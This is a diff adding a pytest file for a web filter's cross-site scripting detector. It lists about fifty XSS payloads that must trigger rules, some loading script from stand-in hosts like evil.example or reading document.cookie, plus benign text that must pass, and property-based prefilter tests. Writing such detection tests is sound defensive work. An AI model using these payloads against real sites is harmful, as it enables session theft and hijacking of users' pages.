@@ -1,0 +1,234 @@
+"""Cross-site scripting: what must fire, what must not, and the prefilter's promise."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tests.detect.inspect_kit import fired, prefilter_hits
+from vaultgate.detect import xss
+from vaultgate.detect.base import Value
+from vaultgate.detect.normalize import expand
+
+RULES = xss.RULES
+
+# (payload, the rule that must fire): tags, handlers, URLs, script-context
+# breakouts, and the encodings and spellings filters miss.
+MUST_FIRE = [
+    ("<script>alert(1)</script>", "xss.script"),
+    ("<ScRiPt src=//evil.example/x.js>", "xss.script"),
+    ("'>alert(1)</script><script/1='", "xss.script"),
+    ("<<scr\x00ipt/src=http://xss.example/x.js></script", "xss.script"),
+    ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss.script"),
+    ("&lt;script&gt;alert(1)&lt;/script&gt;", "xss.script"),
+    ("\\u003cscript\\u003ealert(1)", "xss.script"),
+    ("＜script＞alert(1)＜/script＞", "xss.script"),
+    ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss.script"),
+    ("<img src=x onerror=alert(1)>", "xss.handler"),
+    ("<svg/onload=alert(1)>", "xss.handler"),
+    ('<svG/x=">"/oNloaD=confirm()//', "xss.handler"),
+    ("<body onload=alert('test1')>", "xss.handler"),
+    ('<details/open/ontoggle="alert(1)">', "xss.handler"),
+    ("<x/Onpointerrawupdate=confirm()>x", "xss.handler"),
+    ("<svg\nonauxclick=0;[1].some(confirm)//", "xss.handler"),
+    ('" onmouseover="alert(1)', "xss.handler"),
+    ('"onwheel=ead(111)', "xss.handler"),
+    ("x onfocus=alert(1) autofocus", "xss.handler"),
+    ("&lt;svg/onload&equals;alert(1)&gt;", "xss.handler"),
+    ("<iframe src=//evil.example>", "xss.tag"),
+    ("<object data=x.swf>", "xss.tag"),
+    ("<embed src=x.svg>", "xss.tag"),
+    ("<base href=//evil.example/>", "xss.tag"),
+    ("<meta http-equiv=refresh content='0;url=//evil.example'>", "xss.tag"),
+    ("javascript:alert(document.domain)", "xss.url"),
+    ("JaVaScRiPt:alert(1)", "xss.url"),
+    ("java\tscript:alert(1)", "xss.url"),
+    ("javascript:setInterval('ale'+'rt(1)')", "xss.url"),
+    ("<a href=javascript:prompt(1)>x</a>", "xss.url"),
+    ("<IMG SRC=j&#X41vascript:alert('test')>", "xss.url"),
+    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss.url"),
+    ('" href="javascript:alert(1)', "xss.url"),
+    ("alert(1)", "xss.call"),
+    ("prompt`1`", "xss.call"),
+    ("(alert)(1)", "xss.call"),
+    ("confirm.call(null,1)", "xss.call"),
+    ("alert?.(document?.cookie)", "xss.call"),
+    ('eval(atob("YWxlcnQoMSk="))', "xss.call"),
+    ('document["cookie"]', "xss.call"),
+    ("document.cookie", "xss.call"),
+    ("';alert(String.fromCharCode(88,83,83))//", "xss.jsbreak"),
+    ("\\'-alert(1)//", "xss.jsbreak"),
+    ('"));if(!self.x)self.x=!alert(1)}catch(e){}//', "xss.jsbreak"),
+    ('<div style="width:expression(alert(1))">', "xss.css"),
+]
+
+# Prose with HTML and script words, angle brackets, e-mail addresses, code
+# names, and text in several languages.  None of these runs script.
+MUST_NOT_FIRE = [
+    "<3",
+    "I <3 you",
+    "a < b",
+    "x<y>z",
+    "if a<b and c>d",
+    "h2<h1",
+    "Email <john@example.com>",
+    "O'Reilly <o.reilly@example.ie>",
+    "Anne <anne@bank.example>, Bob <bob@bank.example>",
+    "<enter type here>",
+    "<b>bold</b> move",
+    "The standard for the <$ tag is to enclose text",
+    "JavaScript: Basics of JavaScript Language",
+    "javascript: the good parts",
+    "data: 5 items",
+    "alert me at 5pm (daily)",
+    "Please confirm (yes/no)",
+    "Please confirm(with manager) before",
+    "Set an alert for low balance",
+    "onload = ready",
+    "Set online=true",
+    "Window (seat) please",
+    "document the function(s) please",
+    "Import (EU)",
+    "regular expression (regex)",
+    "It's 'fine' - really (ok)",
+    "'Hello'; do(x)",
+    "Mike's fund: 5 - 6 (approx)",
+    ">url=/pi?mode=<;>",
+    "url=https://api.example.com/1.1/statuses.json?screen_name=x&count=2",
+    "Scripture reading on Sunday",
+    "Script writer fee",
+    "Die Überweisung <Miete> für März",
+    "Le paiement <loyer> de mars",
+    "支払い <家賃> 3月",
+    "Платёж <аренда> за март",
+    "1 < 2 > 0",
+    "<-- back",
+    "-->",
+    "<<EOF",
+]
+
+
+@pytest.mark.parametrize(("payload", "rule_id"), MUST_FIRE)
+def test_xss_fires(payload: str, rule_id: str) -> None:
+    assert rule_id in fired(RULES, payload)
+
+
+@pytest.mark.parametrize("text", MUST_NOT_FIRE)
+def test_ordinary_text_passes(text: str) -> None:
+    assert fired(RULES, text) == set()
+
+
+@pytest.mark.parametrize("kind", ["query", "form", "cookie", "header", "path", "xml"])
+def test_every_kind_of_value_is_inspected(kind: str) -> None:
+    assert "xss.handler" in fired(RULES, "<img src=x onerror=alert(1)>", kind)
+
+
+# -- the prefilter may only say "maybe" ------------------------------------------
+
+_PIECES = [
+    "<",
+    ">",
+    "/",
+    "</",
+    "<!--",
+    "-->",
+    " ",
+    "\t",
+    "\n",
+    "\r",
+    "\x00",
+    "=",
+    "'",
+    '"',
+    "`",
+    "(",
+    ")",
+    "[",
+    "]",
+    "{",
+    "}",
+    ";",
+    ":",
+    "-",
+    "+",
+    ".",
+    "?.",
+    ",",
+    "script",
+    "svg",
+    "img",
+    "iframe",
+    "object",
+    "base",
+    "meta",
+    "http-equiv",
+    "a",
+    "x",
+    "src",
+    "href",
+    "data",
+    "style",
+    "srcdoc",
+    "onload",
+    "onerror",
+    "onmouseover",
+    "onpointerrawupdate",
+    "online",
+    "alert",
+    "prompt",
+    "confirm",
+    "eval",
+    "fetch",
+    "import",
+    "function",
+    "document",
+    "cookie",
+    "window",
+    "location",
+    ".innerHTML",
+    "call",
+    "javascript",
+    "java",
+    "script:",
+    "vbscript:",
+    "data:text/html,",
+    "expression",
+    "-moz-binding",
+    "behavior",
+    "url(",
+    "1",
+    "&#x3c;",
+    "é",
+    "\u00a0",
+    "ſ",
+]
+
+html_like = st.lists(st.sampled_from(_PIECES), min_size=1, max_size=14).map("".join)
+
+
+def _check_prefilter(text: str) -> None:
+    forms = [value.text for value in expand(Value("json", "$.x", text))]
+    for form in forms:
+        classes = xss.evidence(form)
+        if classes:
+            hits = prefilter_hits(RULES, [form])
+            for kind in classes:
+                assert f"xss.{kind}" in hits, (form, kind, hits)
+
+
+@settings(max_examples=400, deadline=None)
+@given(html_like)
+def test_prefilter_never_hides_xss_in_html_like_text(text: str) -> None:
+    _check_prefilter(text)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=60))
+def test_prefilter_never_hides_xss_in_any_text(text: str) -> None:
+    _check_prefilter(text)
+
+
+@pytest.mark.parametrize("text", [p for p, _ in MUST_FIRE] + MUST_NOT_FIRE)
+def test_prefilter_covers_the_tables(text: str) -> None:
+    _check_prefilter(text)
